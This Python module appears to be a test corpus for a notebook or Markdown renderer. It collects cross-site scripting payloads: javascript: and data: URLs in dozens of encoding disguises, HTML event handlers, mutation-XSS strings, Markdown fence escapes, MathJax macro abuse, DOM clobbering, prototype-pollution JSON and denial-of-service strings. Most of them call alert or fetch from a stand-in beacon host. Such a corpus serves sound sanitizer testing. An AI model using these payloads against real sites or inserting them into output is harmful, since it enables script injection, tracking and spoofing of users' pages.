"""Attacks on this renderer: dangerous schemes in every kind of link and every disguise, and what Markdown, math and notebooks add.

A payload whose script runs calls `alert`; one that fetches something fetches it from `BEACON`.
"""

from __future__ import annotations

import base64
from collections.abc import Callable, Iterator
from urllib.parse import quote

BEACON = "http://beacon.invalid/seen"
"""Stands in payloads for an address at which somebody listens."""

SCRIPT = "alert(1)"
SVG = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{SCRIPT}"><image href="{BEACON}/svg"/></svg>'

URLS = (
    f"javascript:{SCRIPT}",
    f"javascript://a.example/%0a{SCRIPT}",
    "vbscript:msgbox(1)",
    f"data:text/html,<script>{SCRIPT}</script>",
    "data:text/html;base64," + base64.b64encode(f"<script>{SCRIPT}</script>".encode()).decode(),
    "data:image/svg+xml;base64," + base64.b64encode(SVG.encode()).decode(),
    "data:application/xhtml+xml,<x/>",
    "file:///etc/passwd",
    "blob:https://a.example/1",
    "filesystem:https://a.example/1",
    "view-source:https://a.example",
    "about:blank",
    "ws://a.example",
    "intent://a.example#Intent;end",
    "ms-word:ofe|u|https://a.example",
    "//a.example/x",
    "\\\\a.example\\x",
    "/lab/api/kernels",
    "../../api/shutdown",
)

DISGUISES: tuple[Callable[[str], str], ...] = (
    str,
    str.upper,
    lambda url: "".join(char.upper() if index % 2 else char for index, char in enumerate(url)),
    lambda url: "".join(f"&#{ord(char)};" for char in url),
    lambda url: "".join(f"&#x{ord(char):x}" for char in url),
    lambda url: "".join(f"&#{ord(char):07d}" for char in url),
    lambda url: url.replace(":", "&colon;"),
    lambda url: url.replace(":", "&#58"),
    lambda url: url.replace(":", "%3A"),
    lambda url: url[:4] + "\t" + url[4:],
    lambda url: url[:4] + "\n" + url[4:],
    lambda url: url[:4] + "&Tab;" + url[4:],
    lambda url: url[:4] + "&NewLine;" + url[4:],
    lambda url: url[:4] + "\r" + url[4:],
    lambda url: url[:4] + "\0" + url[4:],
    lambda url: url[:4] + "\\" + url[4:],
    lambda url: url[:4] + "%0a" + url[4:],
    lambda url: "\x01" + url,
    lambda url: "\x1f\x0c" + url,
    lambda url: "&#1;" + url,
    lambda url: "\u00a0" + url,
    lambda url: "\u200b" + url,
    lambda url: "\ufeff" + url,
    lambda url: "\u202e" + url,
    lambda url: "\\" + url,
    lambda url: quote(url, safe=""),
    lambda url: url.replace("s", "\u017f").replace("k", "\u212a"),
    lambda url: url.replace("a", "\uff41").replace(":", "\uff1a"),
    lambda url: url.replace(":", "\\:"),
)

LINKS = (
    "[x]({})",
    "[x](<{}>)",
    '[x]({} "title")',
    "![x]({})",
    "<{}>",
    "[x]\n\n[x]: {}",
    "[x][y] and ![x][y]\n\n[y]: <{}>",
    '<a href="{}">x</a>',
    '<img src="{}">',
    "[![x]({})]({})",
    "| a |\n|-|\n| [x]({}) |",
    "[^1]\n\n[^1]: [x]({})",
    "{}",
)

HTML = (
    f"<script>{SCRIPT}</script>",
    f'<script src="{BEACON}/script"></script>',
    f"</script><script>{SCRIPT}</script>",
    f"<ScRiPt x>{SCRIPT}</sCrIpT >",
    f"<script\n>{SCRIPT}</script\n>",
    f"<script type=module>import '{BEACON}/module'</script>",
    f'<script type="importmap">{{"imports":{{"x":"{BEACON}/map"}}}}</script>',
    f'<script type=speculationrules>{{"prefetch":[{{"source":"list","urls":["{BEACON}/spec"]}}]}}</script>',
    f'<img src="{BEACON}/img">',
    f"<img src=x onerror={SCRIPT}>",
    f"<img/src/onerror={SCRIPT}>",
    f'<img srcset="{BEACON}/srcset 1x, x 2x" onerror={SCRIPT}>',
    f'<picture><source srcset="{BEACON}/picture"><img src=x></picture>',
    f"<image src=x onerror={SCRIPT}>",
    f"<svg onload={SCRIPT}>",
    f"<svg><script>{SCRIPT}</script></svg>",
    f'<svg><script href="{BEACON}/svgscript"/></svg>',
    f"<svg><animate onbegin={SCRIPT} attributeName=x dur=1s>",
    f'<svg><a><animate attributeName=href values="javascript:{SCRIPT}"/><text y=20>x</text></a></svg>',
    f'<svg><use href="data:image/svg+xml,&lt;svg id=x onload={SCRIPT}/&gt;#x"/></svg>',
    f'<svg><image href="{BEACON}/svgimage"/></svg>',
    f'<svg><foreignObject><iframe srcdoc="<script>parent.{SCRIPT}</script>"></iframe></foreignObject></svg>',
    f"<svg><style>*{{background:url({BEACON}/svgstyle)}}</style></svg>",
    f'<math href="javascript:{SCRIPT}">x</math>',
    f'<math><maction actiontype="statusline#x" xlink:href="javascript:{SCRIPT}">x</maction></math>',
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={SCRIPT}&gt;">',
    f"<math><mtext></form><form><mglyph><style></math><img src onerror={SCRIPT}>",
    f'<svg></p><style><a id="</style><img src=1 onerror={SCRIPT}>">',
    f'<noscript><p title="</noscript><img src=x onerror={SCRIPT}>">',
    f"<template><script>{SCRIPT}</script></template>",
    f"<template shadowrootmode=open><script>{SCRIPT}</script></template>",
    f'<select><template><style><!--</style><a rel="--></style></template></select><img src onerror={SCRIPT}>">',
    f'<textarea><img title="</textarea><img src=x onerror={SCRIPT}>">',
    f'<title><img title="</title><img src=x onerror={SCRIPT}>">',
    f'<xmp><img title="</xmp><img src=x onerror={SCRIPT}>">',
    f"<plaintext><img src=x onerror={SCRIPT}>",
    f"<listing>&lt;img onerror={SCRIPT} src=x&gt;</listing>",
    f"<!--><img src=x onerror={SCRIPT}>-->",
    f"<!-- --!><img src=x onerror={SCRIPT}>-->",
    f"<![CDATA[<img src=x onerror={SCRIPT}>]]>",
    f'<?xml-stylesheet href="javascript:{SCRIPT}"?>',
    f"<!DOCTYPE html [<!ENTITY x '<script>{SCRIPT}</script>'>]>&x;",
    f'<iframe src="javascript:parent.{SCRIPT}"></iframe>',
    f'<iframe srcdoc="<script>parent.{SCRIPT}</script>"></iframe>',
    f'<iframe src="{BEACON}/frame"></iframe>',
    f"<frameset onload={SCRIPT}><frame src=x></frameset>",
    f'<object data="{BEACON}/object"></object>',
    f'<object data="javascript:{SCRIPT}"></object>',
    f'<embed src="{BEACON}/embed">',
    f'<applet code="{BEACON}/applet"></applet>',
    f'<portal src="{BEACON}/portal"></portal>',
    f'<form action="{BEACON}/form"><input name=x autofocus onfocus={SCRIPT}><button>Go</button></form>',
    f'<button formaction="javascript:{SCRIPT}" form=x>x</button><form id=x></form>',
    f"<isindex type=image src=1 onerror={SCRIPT}>",
    f"<input autofocus onfocus={SCRIPT}>",
    f"<select autofocus onfocus={SCRIPT}></select>",
    f"<textarea autofocus onfocus={SCRIPT}></textarea>",
    f"<keygen autofocus onfocus={SCRIPT}>",
    f"<x tabindex=1 autofocus onfocus={SCRIPT}></x>",
    f"<x contenteditable onbeforeinput={SCRIPT} oncopy={SCRIPT}>x</x>",
    f'<body onload={SCRIPT} onpageshow={SCRIPT} background="{BEACON}/body">',
    f"<html onmousemove={SCRIPT}>",
    f'<base href="{BEACON}/base/">',
    f'<meta http-equiv="refresh" content="0;url={BEACON}/refresh">',
    f'<meta http-equiv="refresh" content="0;url=javascript:{SCRIPT}">',
    '<meta http-equiv="set-cookie" content="evil=1">',
    f'<link rel="stylesheet" href="{BEACON}/css">',
    f'<link rel="preload" as="image" href="{BEACON}/preload"><link rel="prefetch" href="{BEACON}/prefetch">',
    f'<link rel="dns-prefetch preconnect" href="{BEACON}">',
    f"<style>@import '{BEACON}/import'; body {{ background: url({BEACON}/bg) }}</style>",
    "<style>* { display: none !important } body { position: fixed; transform: scale(9) }</style>",
    "<style>@keyframes evil { to { opacity: 0 } } body { animation: evil 9s }</style>",
    f"<style>@font-face {{ font-family: x; src: url({BEACON}/font) }} * {{ font-family: x }}</style>",
    '<div style="position:fixed;inset:0;z-index:2147483647;background:red">Your session has ended</div>',
    f'<div style="background:url({BEACON}/style)">x</div>',
    f'<div style="width:expression({SCRIPT})">x</div>',
    f'<div style="-moz-binding:url({BEACON}/xbl);behavior:url({BEACON}/htc)">x</div>',
    f"<details open ontoggle={SCRIPT}>x</details>",
    f"<dialog open oncancel={SCRIPT}>x</dialog>",
    f"<div popover=manual id=p onbeforetoggle={SCRIPT}></div>",
    f"<marquee onstart={SCRIPT} onbounce={SCRIPT}>x</marquee>",
    f'<video src=x onerror={SCRIPT} poster="{BEACON}/poster"></video>',
    f"<video><source onerror={SCRIPT} src=x></video>",
    f"<audio src=x onerror={SCRIPT} autoplay></audio>",
    f'<video autoplay src="{BEACON}/video"><track src="{BEACON}/track" default></video>',
    f'<table background="{BEACON}/table"><tr><td background="{BEACON}/td">x</table>',
    f'<a href="javascript:{SCRIPT}" ping="{BEACON}/ping">x</a>',
    f'<a href="https://a.example" onmouseover={SCRIPT} style="position:fixed;inset:0">x</a>',
    f'<area href="javascript:{SCRIPT}" ping="{BEACON}/ping">',
    f'<div onclick={SCRIPT} onpointerenter={SCRIPT} onanimationstart={SCRIPT} style="animation:x 1s">x</div>',
    f"<custom-element is=x onscroll={SCRIPT}>x</custom-element>",
    f"<slot name=x onslotchange={SCRIPT}></slot>",
    "<form id=cookie><input name=cookie></form><img name=body><a id=location></a><a id=alert></a>",
    "<a id=jupyterapp></a><a id=jupyterapp name=shell></a><div id=require></div><i id=MathJax></i>",
    "<a id=x name=y href=https://a.example></a><iframe name=parent></iframe><form name=attributes></form>",
    f"<<script>{SCRIPT}//<</script>",
    f"<a<b onclick={SCRIPT}>x</a>",
    f"<p/onclick={SCRIPT}//>x",
    f"\uff1cscript\uff1e{SCRIPT}\uff1c/script\uff1e",
    f"&lt;script&gt;{SCRIPT}&lt;/script&gt; &#60;img src=x onerror={SCRIPT}&#62; &#x3c;svg/onload={SCRIPT}&#x3e;",
    f"+ADw-script+AD4-{SCRIPT}+ADw-/script+AD4-",
    f"\u2028<script>{SCRIPT}</script>\u2029",
    f"<scr\0ipt>{SCRIPT}</scr\0ipt>",
    f"<\x0bscript>{SCRIPT}</script> <img\x0csrc=x\x0conerror={SCRIPT}>",
    f"\x1b]8;;javascript:{SCRIPT}\x07x\x1b]8;;\x07 \x1b[2J",
    f"{{{{constructor.constructor('{SCRIPT}')()}}}} ${{{SCRIPT}}} #{{{SCRIPT}}} <%= {SCRIPT} %>",
)
"""Raw HTML: elements that run, fetch, cover, navigate, take names, or turn into others when they are parsed twice."""

TAGS = f"<img src=x onerror={SCRIPT}><script>{SCRIPT}</script>"

MARKDOWN = (
    f"```{TAGS}\nx\n```",
    f'```" onmouseover="{SCRIPT}\nx\n```',
    f"```html\n{TAGS}\n```",
    f"```html\n</code></pre>{TAGS}\n```",
    f'```mermaid\ngraph TD; A["{TAGS}"]\n```',
    f"```mermaid\n</pre>{TAGS}\n```",
    f'```mermaid\nflowchart TD\n  A@{{ img: "{BEACON}/mermaid" }}\n  click A "javascript:{SCRIPT}"\n```',
    f"```{{.python onclick={SCRIPT}}}\nx\n```",
    "```__proto__\nx\n```\n\n```constructor\nx\n```\n\n```toString\nx\n```",
    f"~~~ `x`\n{TAGS}\n~~~",
    f"``` a`b\n{TAGS}",
    f"- a\n\n  ```\n  b\n{TAGS}",
    f"> ```\n{TAGS}",
    f"> ```\n> x\r{TAGS}\n> ```",
    f"```\nx\r{TAGS}\n```",
    f"\\`{TAGS}`",
    f"- `a\n- {TAGS}`",
    f"# `a\n{TAGS}`",
    f"| `a | b` |\n|-|-|\n| `{TAGS}` | {TAGS} |",
    f"x\u2028```\n{TAGS}",
    f"x\x0b```\n{TAGS}\n```",
    f"x\x85~~~\n{TAGS}",
    f"Use `$$` here.\n\n```html\n$$\n{TAGS}\n```",
    f"Use `\\begin{{x}}` here.\n\n```html\n\\end{{x}}\n{TAGS}\n```",
    f"\\\\[\n```html\n{TAGS}\n```\n\\\\\\]",
    f"$\\begin{{x}}$\n\n```html\n\\end{{x}}\n{TAGS}\n```",
    f"\\(a\\)\\(b\\)\n\n```html\n$$\n{TAGS}\n```",
    f"\\$$x$$\n\n```html\n$$ {TAGS}\n```",
    f"    ```\n{TAGS}\n    ```",
    f"<!--\n```\n-->\n{TAGS}\n```",
    f"[`]({TAGS})`",
    f"<https://a.example/`>`{TAGS}`",
    f'[x](https://a.example "`")`{TAGS}`',
    f"[x]: <`>\n`{TAGS}`",
    f"# {TAGS} {{#location .evil style=position:fixed onclick={SCRIPT}}}",
    "# jupyterapp\n\n# document\n\n# __proto__",
    f"[^{TAGS}]\n\n[^{TAGS}]: {TAGS}",
    "[^__proto__] [^constructor] [x][__proto__] [x][constructor]\n\n[^__proto__]: a\n\n[constructor]: https://a.example",
    f"- [ ] {TAGS}\n- [x] <input type=image src={BEACON}/todo>",
    f"![x]({BEACON}/image)",
    f"![x][i] ![i] ![i][]\n\n[i]: {BEACON}/reference",
    f"\\\\![x]({BEACON}/escaped)",
    f"![a\\](data:image/]({BEACON}/label)",
    f"![a](data:image/png;base64,AAAA) ![b]({BEACON}/second)",
    f"![![x]({BEACON}/inner)]({BEACON}/outer)",
    f"![x](<{BEACON}/a b> 'title')",
    f"!\\[x]({BEACON}/half) !&#91;x]({BEACON}/entity)",
    f'![x](data:image/png;base64,AAAA"onerror="{SCRIPT})',
    f"![x](data:image/svg+xml,{quote(SVG)})",
    f'![" onerror="{SCRIPT}]({BEACON}/alt)',
    f"![x](attachment:{TAGS})",
    f'[x](https://a.example/"onmouseover="{SCRIPT})',
    f'[x](https://a.example "\\" onmouseover={SCRIPT} ")',
    f'https://a.example/"onclick={SCRIPT} www.a.example/<script>{SCRIPT}</script> a@b.example?body={TAGS}',
    f"[{TAGS}](https://a.example)",
    "[" * 500 + "x" + "](javascript:1)" * 500,
    "*_" * 800 + "x",
    "> " * 400 + "x",
    "- " * 300 + "x",
    "`" * 1001 + "x" + "`" * 1000,
    "<" * 2000,
    "&#x" + "0" * 2000 + "6a;avascript:1",
    f"<div>\n\n*x*\n\n{TAGS}\n\n</div>",
    f"<details><summary>x</summary>\n\n{TAGS}\n\n</details>",
    f"{TAGS[:9]}\n{TAGS[9:]}",
)
"""Where Markdown lets go of a text: fences, spans, escapes, notes, pictures, and what other readers of it see differently."""

MATH = (
    f"$\\href{{javascript:{SCRIPT}}}{{x}}$",
    f"$\\url{{javascript:{SCRIPT}}}$",
    "$\\htmlClass{evil}{x} \\htmlId{location}{x} \\htmlStyle{position:fixed;inset:0}{x} \\htmlData{a=b}{x}$",
    f"$\\class{{evil}}{{x}} \\cssId{{location}}{{x}} \\style{{position:fixed;inset:0;background:url({BEACON}/mathstyle)}}{{x}}$",
    f"$\\includegraphics{{{BEACON}/graphics}}$",
    f"$\\includegraphics[height=9em]{{javascript:{SCRIPT}}}$",
    f"$\\text{{{TAGS}}}$",
    f"${TAGS}$ and $${TAGS}$$",
    f"\\({TAGS}\\) \\[{TAGS}\\]",
    "$\\color{red;position:fixed;inset:0}{x} \\textcolor{url(x)}{y} \\colorbox{red\\}{z}$",
    f"$\\fcolorbox{{#fff;background:url({BEACON}/color)}}{{red}}{{x}}$",
    "$\\def\\a{\\a\\a}\\a$",
    "$\\def\\a#1{#1#1}" + "\\a{" * 40 + "x" + "}" * 40 + "$",
    "$\\newcommand{\\frac}{\\href{javascript:1}{x}}\\frac12$ $\\frac12$",
    "$\\gdef\\sum{\\text{evil}}$ then $\\sum$",
    "$\\let\\a=\\b\\a \\edef\\c{\\c\\c}\\c$",
    "$\\rule{9999em}{9999em}$ $\\kern-9999em x$ $\\hspace{-9999em}x$ $\\raisebox{9999em}{x}$",
    "$\\raisebox{12em}{\\Huge\\colorbox{red}{FAKE}}$ $\\smash{\\raisebox{-12em}{\\Huge\\colorbox{red}{FAKE}}}$",
    "$\\llap{\\Huge\\colorbox{red}{FAKE FAKE FAKE FAKE FAKE FAKE FAKE FAKE}}$ $\\mathrlap{\\kern-30em\\Huge\\colorbox{red}{FAKE}}$",
    "$\\smash{\\begin{matrix}" + "\\colorbox{red}{FAKE}\\\\" * 30 + "\\end{matrix}}$",
    "$\\tag{" + "x" * 200 + "}\\label{location}\\ref{location}\\eqref{__proto__}$",
    "$\\operatorname{__proto__} \\constructor \\toString \\__proto__$",
    '$\\unicode{x3c}\\char`< \\text{\\char"3c}$',
    "$\\require{html}\\href{javascript:1}{x} \\require{bbox}\\bbox[position:fixed;inset:0]{x}$",
    '$\\mmlToken{mi}[href="javascript:alert(1)" onclick="alert(1)"]{x}$',
    "$" + "{" * 3000 + "x" + "}" * 3000 + "$",
    "$" + "\\sqrt{" * 300 + "x" + "}" * 300 + "$",
    "$" + "x^{" * 300 + "y" + "}" * 300 + "$",
    "$$\\begin{aligned}" + "a&=b\\\\" * 500 + "\\end{aligned}$$",
    "$a ![x](" + BEACON + "/math) b$ $[x](javascript:alert(1))$",
)

UNICODE = (
    "\u202eevil\u202c \u2066\u2067\u2068 \u2069\u2069 \u061c\u200e\u200f",
    "\u202e)1(trela:tpircsavaj(]x[",
    "x" + "\u0300\u0316\u0489" * 300,
    "\u0e49" * 500,
    "\ufdfd" * 200,
    "\U0001f468" + "\u200d\U0001f469" * 200,
    "a" * 20_000,
    "\ud800".encode("utf-16", "surrogatepass").decode("utf-16", "replace") + "\ufffe\uffff",
    "\u00ad\u034f\u115f\u2060\u180e\ufeff" * 50,
    "\t" * 2000 + "x",
)

NAMES = (
    "__proto__", "constructor", "prototype", "hasOwnProperty", "toString", "__defineGetter__", "location", "document",
)  # fmt: skip

JSON = tuple(
    template.replace("NAME", name).replace("TAGS", TAGS.replace('"', '\\"'))
    for name in NAMES
    for template in ('{"NAME": {"polluted": true}, "x": "TAGS"}', '{"NAME": "TAGS"}', '{"a": {"NAME": ["TAGS"]}}')
)
"""Arguments of tools and answers of a shape."""


def links() -> Iterator[str]:
    """Each dangerous address in each disguise in each kind of link."""
    for url in URLS:
        for disguise in DISGUISES:
            disguised = disguise(url)
            yield from (link.replace("{}", disguised) for link in LINKS)


def own() -> Iterator[str]:
    """All of them."""
    yield from links()
    yield from HTML
    yield from MARKDOWN
    yield from MATH
    yield from UNICODE
    yield from JSON
    yield from NAMES
